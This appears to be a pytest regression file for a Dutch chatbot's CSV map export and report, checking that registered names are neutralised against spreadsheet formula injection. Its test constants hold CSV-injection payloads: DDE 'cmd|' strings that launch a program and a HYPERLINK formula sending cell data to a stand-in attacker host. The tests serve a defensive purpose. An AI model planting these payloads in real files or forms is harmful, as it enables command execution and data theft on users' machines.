"""Regression: `map export` and `report --format csv` put "=HYPERLINK(…)", "@SUM(…)" and "=cmd|…" unchanged
into cells, from names a user registered; a spreadsheet opening the file would run them as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from adapters.cli import main
from bot.commitment import scheduler
from bot.language.dates import parse_rhythm
from bot.language.spreadsheet import FORMULA_STARTS
from tests.chat import Conversation

NAME = "=cmd|' /C calc'!A0 Jansen"
ORGANISATION = "@SUM(1+1)*cmd|' /C calc'!A0"
ROLE = "-2+3+cmd|' /C calc'!A0"
NEED = '=HYPERLINK("http://aanvaller.example/?d="&A1;"klik hier")'


def formulas(rows: list[dict[str, str]]) -> list[str]:
    """Every cell a spreadsheet would run as a formula."""
    return [value for row in rows for value in row.values() if value and value.startswith(FORMULA_STARTS)]


@pytest.fixture
async def registered(runtime, monkeypatch, settings):
    monkeypatch.setenv("KETENBOT_DB", str(settings.db_path))
    chat = Conversation(runtime.services, user="aanvaller")
    for text in ["aanmelden", NAME, ORGANISATION, ROLE, "schulden", "Zeist", "-", "+32 470 12 34 56", "-"]:
        await chat.say(text)
    assert (await chat.say("ja")).text.startswith("Dank je! Je staat nu op de sociale kaart.")
    return runtime


def cli(capsys, *argv: str) -> str:
    assert main(list(argv)) == 0
    return capsys.readouterr().out


async def test_map_export_neutralises_formulas_and_imports_back_unchanged(registered, capsys, monkeypatch, tmp_path):
    rows = list(csv.DictReader(io.StringIO(cli(capsys, "map", "export"))))
    assert formulas(rows) == []
    [row] = rows
    assert (row["name"], row["organisation"], row["role"], row["phone"]) == (
        f"'{NAME}", f"'{ORGANISATION}", f"'{ROLE}", "'+32 470123456"
    )
    exported = tmp_path / "export.csv"
    exported.write_text(cli(capsys, "map", "export"), encoding="utf-8")
    monkeypatch.setenv("KETENBOT_DB", str(tmp_path / "ander.db"))
    assert "1 nieuw" in cli(capsys, "map", "import", str(exported))
    [again] = list(csv.DictReader(io.StringIO(cli(capsys, "map", "export", "--format", "csv"))))
    fields = ("name", "organisation", "role", "topics", "region", "email", "phone", "note")
    assert [again[f] for f in fields] == [row[f] for f in fields]


async def test_report_csv_neutralises_formulas_in_organisations_and_needs(registered, clock, capsys):
    services = registered.services
    services.checkins.set_schedule(parse_rhythm("elke 4 weken"), clock.now(), reminder_days=3, by="test")
    scheduler.start_cycle(services, clock.now())
    chat = Conversation(services, user="aanvaller")
    for answer in ("ja", "2", NEED):
        await chat.say(answer)
    rows = list(csv.DictReader(io.StringIO(cli(capsys, "report", "--format", "csv"))))
    assert formulas(rows) == []
    assert [r["need"] for r in rows if r["section"] == "need"] == [f"'{NEED}"]
    assert f"'{ORGANISATION}" in [r["organisation"] for r in rows if r["section"] == "organisation"]
